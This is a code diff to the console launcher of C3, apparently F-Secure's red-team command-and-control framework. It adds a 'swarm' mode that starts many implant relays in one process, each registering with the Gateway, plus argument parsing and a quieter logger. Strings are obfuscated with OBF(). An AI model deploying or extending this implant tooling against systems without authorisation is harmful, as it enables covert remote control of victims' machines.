@@ -8,7 +8,7 @@ struct NodeRelayService : FSecure::CppCommons::WinTools::AbstractService
 	FSecure::CppCommons::CppTools::XError<FSecure::CppCommons::CppTools::SystemErrorCode> OnServiceRun() override
 	{
 		// Just try and start the NodeRelay.
-		FSecure::C3::Utils::CreateNodeRelayFromImagePatch([](FSecure::C3::LogMessage const&, std::string_view) {}, FSecure::C3::InterfaceFactory::Instance(), EmbeddedData::Instance()[0], EmbeddedData::Instance()[1], EmbeddedData::Instance()[2], EmbeddedData::Instance().FindMatching(3));
+		FSecure::C3::Utils::CreateNodeRelayFromImagePatch(nullptr, FSecure::C3::InterfaceFactory::Instance(), EmbeddedData::Instance()[0], EmbeddedData::Instance()[1], EmbeddedData::Instance()[2], EmbeddedData::Instance().FindMatching(3));
 		return { NO_ERROR };
 	}
 };
@@ -21,13 +21,56 @@ void Log(FSecure::C3::LogMessage const& message, std::string_view sender)
 	std::cout << FSecure::C3::Utils::ConvertLogMessageToConsoleText(OBF("Node"), message, sender) << std::endl;
 }
 
+/// Logger of swarm mode. Thousands of Relays would drown the console in information messages, so only warnings and errors are shown.
+void LogSwarm(FSecure::C3::LogMessage const& message, std::string_view sender)
+{
+	if (message.m_Severity == FSecure::C3::LogMessage::Severity::Error || message.m_Severity == FSecure::C3::LogMessage::Severity::Warning)
+		Log(message, sender);
+}
+
+/// Swarm mode settings.
+struct SwarmOptions
+{
+	std::size_t m_Relays;																								///< Number of NodeRelays run in the process.
+	std::size_t m_Workers = 4;																							///< Number of threads updating Channels of all NodeRelays.
+};
+
+/// Read swarm mode settings from program arguments: "--swarm N [--workers N]".
+/// @param argc number of program arguments.
+/// @param argv vector of program arguments.
+/// @return swarm settings, or nothing if a single NodeRelay should be run.
+/// @throws std::invalid_argument if arguments are malformed.
+std::optional<SwarmOptions> ParseSwarmOptions(int argc, char* argv[])
+{
+	if (argc < 2 || argv[1] != std::string_view{ OBF("--swarm") })
+		return {};
+
+	auto readNumber = [&](int index) -> std::size_t
+	{
+		char* end = nullptr;
+		auto number = index < argc ? std::strtoull(argv[index], &end, 10) : 0;
+		if (!number || *end)
+			throw std::invalid_argument{ OBF("Usage: --swarm RELAYS [--workers THREADS]") };
+
+		return static_cast<std::size_t>(number);
+	};
+
+	auto options = SwarmOptions{ readNumber(2) };
+	if (argc > 3 && argv[3] == std::string_view{ OBF("--workers") })
+		options.m_Workers = readNumber(4);
+	else if (argc > 3)
+		throw std::invalid_argument{ OBF("Usage: --swarm RELAYS [--workers THREADS]") };
+
+	return options;
+}
+
 /// Entry point of the application.
 /// @param argc number of program arguments.
 /// @param argv vector of program arguments.
 int main(int argc, char * argv[])
 {
 	FSecure::WinTools::StructuredExceptionHandling::SehWrapper(
-		[]() {
+		[argc, argv]() {
 			try
 			{
 				// Check if we're run as a Windows Service.
@@ -37,6 +80,27 @@ int main(int argc, char * argv[])
 
 				// If not then proceed as a user-land application.
 				std::cout << OBF("Custom Command and Control - NodeRelayConsoleExe. BUILD: ") << OBF(C3_BUILD_VERSION) << std::endl << std::endl;
+
+				// Swarm of virtual agents, each registering with the Gateway on its own. First Channel should be a negotiation one, so that every Relay gets its own Channel IDs.
+				if (auto swarm = ParseSwarmOptions(argc, argv))
+				{
+					std::cout << OBF("*> Starting ") << swarm->m_Relays << OBF(" NodeRelays.") << std::endl;
+					auto relays = FSecure::C3::Utils::CreateNodeRelaySwarmFromImagePatch(LogSwarm,
+						FSecure::C3::InterfaceFactory::Instance(),
+						EmbeddedData::Instance()[0],
+						EmbeddedData::Instance()[1],
+						EmbeddedData::Instance()[2],
+						EmbeddedData::Instance().FindMatching(3),
+						swarm->m_Relays,
+						swarm->m_Workers);
+
+					std::cout << OBF("*> Started ") << relays.size() << OBF(" NodeRelays.") << std::endl;
+					for (auto& relay : relays)
+						relay->Join();
+
+					return;
+				}
+
 				std::cout << OBF("*> Starting NodeRelay.") << std::endl;
 				FSecure::C3::Utils::CreateNodeRelayFromImagePatch(Log,
 					FSecure::C3::InterfaceFactory::Instance(),